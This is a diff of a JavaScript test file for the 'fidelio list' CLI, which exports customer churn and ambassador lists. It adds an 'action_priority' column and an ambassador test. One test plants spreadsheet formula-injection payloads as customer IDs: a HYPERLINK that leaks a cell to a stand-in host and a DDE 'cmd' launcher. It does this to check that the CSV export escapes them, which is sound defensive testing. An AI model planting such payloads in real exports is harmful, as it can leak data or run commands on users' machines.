@@ -29,8 +29,24 @@ describe('fidelio list', () => {
       expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--segment', 'loyal,at_risk'])).stdout)).toEqual(['c2', 'c4']);
       expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--country', 'ES'])).stdout)).toEqual(['c1', 'c4']);
       const csv = (await runCli(['list', 'save', '--db', db, '--country', 'FR'])).stdout.trim().split('\n');
-      expect(csv[0]).toBe('customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk');
-      expect(csv.slice(1)).toEqual(['c2,true,medium,save,1,loyal,true,500']);
+      expect(csv[0]).toBe('customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk,action_priority');
+      expect(csv.slice(1)).toEqual(['c2,true,medium,save,1,loyal,true,500,3']);
+    });
+  });
+
+  test('ambassador: the flagged customers, most valuable first; published scores from before ambassadors say to run again', async () => {
+    await withTempDir(async (dir) => {
+      const path = await scoredDatabase(dir);
+      const old = await runCli(['list', 'ambassador', '--db', path]);
+      expect(old.code).toBe(2);
+      expect(old.errors).toMatch(/without ambassadors; run "fidelio run" again/);
+      const db = await Database.open(path);
+      await db.run(`ALTER TABLE published_scores ADD COLUMN is_ambassador BOOLEAN; ALTER TABLE published_scores ADD COLUMN value_score DOUBLE;
+        UPDATE published_scores SET is_ambassador = customer_id IN ('c3', 'c5', 'c2'), value_score = CASE customer_id WHEN 'c2' THEN 10 WHEN 'c3' THEN 30 ELSE 20 END`);
+      db.close();
+      // Invited to a programme, not contacted for an action: c5 (not to contact for its save) is listed too.
+      expect(ids((await runCli(['list', 'ambassador', '--db', path, '--format', 'json'])).stdout)).toEqual(['c3', 'c5', 'c2']);
+      expect(ids((await runCli(['list', 'ambassador', '--db', path, '--format', 'json', '--country', 'FR'])).stdout)).toEqual(['c2']);
     });
   });
 
@@ -82,7 +98,7 @@ describe('fidelio list', () => {
       }
       const none = await runCli(['list', 'save', '--db', db, '--segment', 'hibernating']);
       expect(none.code).toBe(0);
-      expect(none.stdout).toBe('customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk\n');
+      expect(none.stdout).toBe('customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk,action_priority\n');
       const handle = await Database.open(db);
       await handle.run(`UPDATE customers SET country = 'Korea, Republic of' WHERE customer_id = 'c2'`);
       handle.close();
@@ -99,8 +115,8 @@ describe('fidelio list', () => {
         UPDATE published_scores SET customer_id = '+1+cmd|'' /C calc''!A0' WHERE customer_id = 'c2'`);
       handle.close();
       const csv = (await runCli(['list', 'save', '--db', db])).stdout.trim().split('\n');
-      expect(csv[1]).toBe(`"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",true,high,save,1,champions,true,900`);
-      expect(csv[2]).toBe(`'+1+cmd|' /C calc'!A0,true,medium,save,1,loyal,true,500`);
+      expect(csv[1]).toBe(`"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",true,high,save,1,champions,true,900,1`);
+      expect(csv[2]).toBe(`'+1+cmd|' /C calc'!A0,true,medium,save,1,loyal,true,500,3`);
       expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json'])).stdout)[0]).toBe('=HYPERLINK("http://x/?leak="&A1,"click")');
     });
   });
